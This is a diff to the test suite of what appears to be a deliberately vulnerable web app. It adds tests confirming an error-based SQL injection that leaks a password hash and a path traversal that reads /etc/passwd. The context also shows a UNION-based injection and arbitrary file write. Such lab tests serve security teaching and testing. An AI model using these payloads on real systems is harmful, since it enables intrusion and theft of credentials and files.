@@ -199,6 +199,11 @@ def test_sql_injection_reads_other_tables(client):
     assert hashlib.md5(b"correct-horse").hexdigest() in client.get("/search", query_string={"q": attack}).text
 
 
+def test_sql_errors_say_what_stands_in_other_tables(client):
+    attack = "zzz' OR json_extract('{}', (SELECT password FROM users WHERE id = 1)) --"
+    assert hashlib.md5(b"correct-horse").hexdigest() in client.get("/search", query_string={"q": attack}).text
+
+
 def test_sql_is_taken_from_words_that_come_encoded_twice(client):
     attack = quote("zzz'/**/UNION/**/SELECT/**/id,password,email,id,name,notes,''/**/FROM/**/users/**/--")
     assert hashlib.md5(b"correct-horse").hexdigest() in client.get("/search", query_string={"q": attack}).text
@@ -346,6 +351,7 @@ def test_profiles_of_others_are_open(client):
 
 def test_files_outside_the_folder_can_be_read_and_written(client, module, tmp_path):
     assert client.get("/download?name=../comments.db").data.startswith(b"SQLite format 3")
+    assert client.get("/download?name=/etc/passwd").text.startswith("root:")
     log_in(client)
     client.post("/upload", data={"file": (io.BytesIO(b"pwned"), "../outside.txt")})
     assert (tmp_path / "outside.txt").read_bytes() == b"pwned"
